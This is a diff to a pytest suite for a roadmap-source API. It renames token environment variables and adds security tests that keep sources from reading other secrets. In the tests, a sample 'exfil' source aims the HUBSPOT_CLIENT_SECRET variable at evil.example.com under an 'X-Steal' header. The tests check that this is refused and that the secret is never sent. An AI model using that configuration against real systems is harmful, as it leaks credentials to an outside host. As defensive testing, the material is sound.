@@ -20,7 +20,7 @@ URL = "https://roadmap.example.com/features"
 
 @pytest.fixture(autouse=True)
 def _token(monkeypatch):
-    monkeypatch.setenv("ACME_ROADMAP_TOKEN", "tok")
+    monkeypatch.setenv("ROADMAP_SOURCE_ACME_TOKEN", "tok")
 
 
 def _gauge(source: str) -> float | None:
@@ -37,7 +37,7 @@ def _source(client, headers, **extra):
     body = {
         "name": "acme",
         "kind": "http",
-        "config": {"url": URL, "auth_env": "ACME_ROADMAP_TOKEN"},
+        "config": {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN"},
         "status_mapping": {"GA": "available", "Planned": "coming_soon"},
         **extra,
     }
@@ -312,7 +312,11 @@ def test_list_includes_registry_and_defaults(client, api_key):
     revops = api_key("revops")
     r = client.post(
         "/api/v1/roadmap/sources",
-        json={"name": "pb", "kind": "productboard", "config": {"token_env": "PB_TOKEN"}},
+        json={
+            "name": "pb",
+            "kind": "productboard",
+            "config": {"token_env": "ROADMAP_SOURCE_PB_TOKEN"},
+        },
         headers=revops,
     )
     assert r.status_code == 201
@@ -390,7 +394,7 @@ def test_statuses_list_stored_and_productboard_workspace_statuses(client, api_ke
         json={
             "name": "pb",
             "kind": "productboard",
-            "config": {"token_env": "ACME_ROADMAP_TOKEN", "api_version": "1"},
+            "config": {"token_env": "ROADMAP_SOURCE_ACME_TOKEN", "api_version": "1"},
         },
         headers=revops,
     )
@@ -499,7 +503,7 @@ def test_every_config_mistake_is_refused_with_its_path_and_nothing_is_stored(cli
         "status_mapping.ga",
     }
     source = client.get("/api/v1/roadmap/sources/acme", headers=revops).json()
-    assert source["config"] == {"url": URL, "auth_env": "ACME_ROADMAP_TOKEN"}
+    assert source["config"] == {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN"}
 
 
 @pytest.mark.parametrize(
@@ -507,9 +511,9 @@ def test_every_config_mistake_is_refused_with_its_path_and_nothing_is_stored(cli
     [
         ("http", {"url": "https://x.example.com:99999/f"}, "config.url"),
         ("http", {"url": "https://[::1/features"}, "config.url"),
-        ("productboard", {"token_env": "T", "base_url": "https://[::1"}, "config.base_url"),
-        ("productboard", {"token_env": "T", "base_url": "https://[fe80::1]:x"}, "config.base_url"),
-        ("jira", {"base_url": "https://acme.example.com:0", "jql": "x", "token_env": "T"},
+        ("productboard", {"token_env": "ROADMAP_SOURCE_T", "base_url": "https://[::1"}, "config.base_url"),
+        ("productboard", {"token_env": "ROADMAP_SOURCE_T", "base_url": "https://[fe80::1]:x"}, "config.base_url"),
+        ("jira", {"base_url": "https://acme.example.com:0", "jql": "x", "token_env": "ROADMAP_SOURCE_T"},
          "config.base_url"),
     ],
 )  # fmt: skip
@@ -532,11 +536,13 @@ def test_a_url_the_client_cannot_request_is_refused_at_its_path(
 
 def test_unset_auth_env_is_a_warning_not_a_refusal(client, api_key, monkeypatch):
     revops = api_key("revops")
-    monkeypatch.delenv("ACME_ROADMAP_TOKEN")
+    monkeypatch.delenv("ROADMAP_SOURCE_ACME_TOKEN")
     source = _source(client, revops)  # 201: the variable may be set on the workers only
     assert len(source["warnings"]) == 1
-    assert "config.auth_env: environment variable ACME_ROADMAP_TOKEN" in source["warnings"][0]
-    monkeypatch.setenv("ACME_ROADMAP_TOKEN", "tok")
+    assert (
+        "config.auth_env: environment variable ROADMAP_SOURCE_ACME_TOKEN" in source["warnings"][0]
+    )
+    monkeypatch.setenv("ROADMAP_SOURCE_ACME_TOKEN", "tok")
     assert client.get("/api/v1/roadmap/sources/acme", headers=revops).json()["warnings"] == []
 
 
@@ -790,7 +796,7 @@ def test_removing_more_than_the_configured_share_is_refused_small_changes_pass(
     assert len(_availability(engine)) == 10
     r = client.post(refresh, headers=revops).json()
     assert (r["ok"], r["deleted"]) == (True, 2)
-    config = {"url": URL, "auth_env": "ACME_ROADMAP_TOKEN", "max_removed_share": 0.75}
+    config = {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN", "max_removed_share": 0.75}
     patched = client.patch("/api/v1/roadmap/sources/acme", json={"config": config}, headers=revops)
     assert patched.status_code == 200, patched.text
     r = client.post(refresh, headers=revops).json()
@@ -811,7 +817,7 @@ def test_a_jira_search_that_suddenly_finds_nothing_is_refused(engine, mock_api):
                 config={
                     "base_url": "https://acme.atlassian.net",
                     "jql": "labels = roadmap",
-                    "token_env": "ACME_ROADMAP_TOKEN",
+                    "token_env": "ROADMAP_SOURCE_ACME_TOKEN",
                     "email": "a@b.co",
                 },
                 status_mapping={"Done": "available"},
@@ -986,7 +992,7 @@ def test_an_edit_checks_its_config_against_the_stored_kind_with_every_other_mist
     assert r.status_code == 409
     r = client.patch(
         "/api/v1/roadmap/sources/acme",
-        json={"config": {"url": URL, "auth_env": "ACME_ROADMAP_TOKEN"},
+        json={"config": {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN"},
               "status_mapping": {"GA": "beta"}},
         headers=revops,
     )  # fmt: skip
@@ -1101,7 +1107,7 @@ def test_a_token_pasted_into_auth_scheme_is_refused_and_never_shown(client, api_
     it and showed it to every reader; it is the scheme word only, the token lives in the
     environment variable auth_env names."""
     revops = api_key("revops")
-    config = {"url": URL, "auth_env": "ACME_ROADMAP_TOKEN", "auth_scheme": scheme}
+    config = {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN", "auth_scheme": scheme}
     r = client.post(
         "/api/v1/roadmap/sources",
         json={"name": "acme", "kind": "http", "config": config},
@@ -1128,7 +1134,7 @@ def test_a_scheme_word_is_accepted_as_auth_scheme(client, api_key):
     revops = api_key("revops")
     _source(client, revops)
     for scheme in ("Bearer", "Token", "Basic", "Api-Key", "SSWS", "", "Abcdefghijklmnopqrst"):
-        config = {"url": URL, "auth_env": "ACME_ROADMAP_TOKEN", "auth_scheme": scheme}
+        config = {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN", "auth_scheme": scheme}
         r = client.patch("/api/v1/roadmap/sources/acme", json={"config": config}, headers=revops)
         assert r.status_code == 200, (scheme, r.text)
         assert r.json()["source"]["config"]["auth_scheme"] == scheme
@@ -1143,7 +1149,7 @@ def test_an_auth_scheme_stored_with_a_token_before_the_check_is_not_shown(
     from app.db import session_scope
     from app.models import RoadmapSource
 
-    config = {"url": URL, "auth_env": "ACME_ROADMAP_TOKEN", "auth_scheme": "sk_live_abc123"}
+    config = {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN", "auth_scheme": "sk_live_abc123"}
     with session_scope(engine) as s:
         s.add(RoadmapSource(name="old", kind="http", config=config, status_mapping={}))
     r = client.get("/api/v1/roadmap/sources/old", headers=api_key("viewer"))
@@ -1175,7 +1181,7 @@ def test_replacing_an_auth_scheme_stored_with_a_token_does_not_copy_it_into_the_
     from app.db import session_scope
     from app.models import RoadmapSource
 
-    config = {"url": URL, "auth_env": "ACME_ROADMAP_TOKEN", "auth_scheme": "sk_live_abc123"}
+    config = {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN", "auth_scheme": "sk_live_abc123"}
     with session_scope(engine) as s:
         s.add(RoadmapSource(name="old", kind="http", config=config, status_mapping={}))
         s.add(RoadmapSource(name="older", kind="http", config=config, status_mapping={}))
@@ -1189,7 +1195,7 @@ def test_replacing_an_auth_scheme_stored_with_a_token_does_not_copy_it_into_the_
     entries = {e["action"]: e for e in r.json()["items"]}
     update = entries["roadmap_source.update"]
     assert update["before"]["config"]["auth_scheme"] == "***"
-    assert update["before"]["config"]["auth_env"] == "ACME_ROADMAP_TOKEN"  # no secret: kept
+    assert update["before"]["config"]["auth_env"] == "ROADMAP_SOURCE_ACME_TOKEN"  # no secret: kept
     assert update["after"]["config"]["auth_scheme"] == "Bearer"
     assert entries["roadmap_source.delete"]["before"]["config"]["auth_scheme"] == "***"
 
@@ -1504,10 +1510,10 @@ def test_a_failing_refresh_is_logged_at_warning_a_good_one_at_info(
     a good refresh stays an info line."""
     from app.jobs.schedules import JobContext, load_schedules
 
-    monkeypatch.setenv("ACME_ROADMAP_TOKEN", "tok-s3cr3t-value")
+    monkeypatch.setenv("ROADMAP_SOURCE_ACME_TOKEN", "tok-s3cr3t-value")
     revops = api_key("revops")
     _source(client, revops)
-    broken = {"url": "https://down.example.com/f", "auth_env": "ACME_ROADMAP_TOKEN"}
+    broken = {"url": "https://down.example.com/f", "auth_env": "ROADMAP_SOURCE_ACME_TOKEN"}
     _source(client, revops, name="broken", config=broken)
     mock_api.get(URL).mock(
         return_value=httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"}))
@@ -1772,3 +1778,65 @@ def test_an_allowed_internal_source_is_saved_and_refreshed(client, api_key, engi
         r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops)
     assert r.json()["ok"] is True, r.text
     assert _availability(engine) == {"sso": "available"}
+
+
+# --- which environment variables a source may read (security fix) ------------------------------
+
+
+def test_a_source_naming_another_environment_variable_is_refused_with_422(client, api_key):
+    revops = api_key("revops")
+    config = {"url": URL, "auth_env": "HUBSPOT_CLIENT_SECRET", "auth_header": "X-Steal"}
+    r = client.post(
+        "/api/v1/roadmap/sources",
+        json={"name": "exfil", "kind": "http", "config": config},
+        headers=revops,
+    )
+    assert r.status_code == 422, r.text
+    [detail] = r.json()["error"]["details"]
+    assert (detail["path"], detail["type"]) == ("config.auth_env", "env_name_prefix")
+    assert "starts with ROADMAP_SOURCE_" in detail["msg"]
+    assert client.get("/api/v1/roadmap/sources/exfil", headers=revops).status_code == 404
+
+
+def test_a_stored_source_naming_another_variable_fails_its_refresh_without_sending_it(
+    client, api_key, engine, settings, mock_api, monkeypatch
+):
+    """Stored before the rule: its refresh fails saying which variable to rename, the secret is
+    never sent, and the schedule goes on to the other sources."""
+    from app.db import session_scope
+    from app.jobs.schedules import JobContext, load_schedules
+    from app.models import RoadmapSource
+
+    monkeypatch.setenv("HUBSPOT_CLIENT_SECRET", "hs-secret-123")
+    revops = api_key("revops")
+    _source(client, revops)
+    with session_scope(engine) as s:
+        s.add(
+            RoadmapSource(
+                name="exfil",
+                kind="http",
+                config={"url": "https://evil.example.com/f", "auth_env": "HUBSPOT_CLIENT_SECRET"},
+                status_mapping={},
+            )
+        )
+    evil = mock_api.get("https://evil.example.com/f").mock(
+        return_value=httpx.Response(200, json=_page())
+    )
+    mock_api.get(URL).mock(
+        return_value=httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"}))
+    )
+    r = client.post("/api/v1/roadmap/sources/exfil/refresh", headers=revops)
+    assert r.status_code == 200 and r.json()["ok"] is False
+    assert "HUBSPOT_CLIENT_SECRET" in r.json()["error"]
+    assert "ROADMAP_SOURCE_" in r.json()["error"] and "hs-secret-123" not in r.text
+    state = load_schedules()["roadmap_refresh"].run(
+        JobContext(engine=engine, settings=settings, connectors={})
+    )
+    assert state == {"last": {"acme": "ok", "exfil": "error"}}
+    assert not evil.called
+    shown = client.get("/api/v1/roadmap/sources/exfil", headers=api_key("viewer")).json()
+    assert "HUBSPOT_CLIENT_SECRET" in shown["last_error"]
+    assert any(
+        w.startswith("config.auth_env: HUBSPOT_CLIENT_SECRET is not read")
+        for w in shown["warnings"]
+    )
